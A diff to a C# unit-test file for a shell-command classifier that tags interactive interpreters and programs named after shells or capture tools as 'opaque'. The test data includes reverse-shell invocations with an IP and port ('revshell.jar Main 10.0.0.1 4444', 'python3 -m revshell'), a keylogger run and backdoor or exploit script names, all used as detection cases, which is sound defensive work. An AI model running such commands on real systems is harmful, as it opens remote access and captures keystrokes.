@@ -48,6 +48,8 @@ public sealed class ReplClassTests
     [InlineData("python3 -m pdb script.py")]
     [InlineData("python3 -m ipdb")]
     [InlineData("node inspect app.js")]
+    [InlineData("python3 -ic 'import os'")]
+    [InlineData("python3 -Bi app.py")]
     public void RepLsStartedWithoutInput_AreOpaque(string line)
         => Tags(line).Should().Contain(ShellTags.Opaque);
 
@@ -66,6 +68,8 @@ public sealed class ReplClassTests
     [InlineData("node keylogger.js")]
     [InlineData("java com.evil.RevShell")]
     [InlineData("java -cp /tmp shell.Shell")]
+    [InlineData("java -cp tools/revshell.jar Main 10.0.0.1 4444")]
+    [InlineData("python3 -m revshell 10.0.0.1")]
     public void ProgramsWhoseNameStatesAShellOrCaptureEffect_AreOpaque(string line)
         => Tags(line).Should().Contain(ShellTags.Opaque);
 
@@ -95,6 +99,9 @@ public sealed class ReplClassTests
     [InlineData("perl backdoor.pl")]
     [InlineData("java com.example.ShellApp")]
     [InlineData("python3 -m pdb --help")]
+    [InlineData("python3 -Ic 'print(1)'")]
+    [InlineData("python3 -Bc 'print(1)'")]
+    [InlineData("java -cp lib/app.jar:lib/shellcheck.jar Main")]
     [InlineData("node --inspect app.js")]
     [InlineData("python3 exploit.py")]
     [InlineData("python3 scanner.py -i 10.0.0.7")]
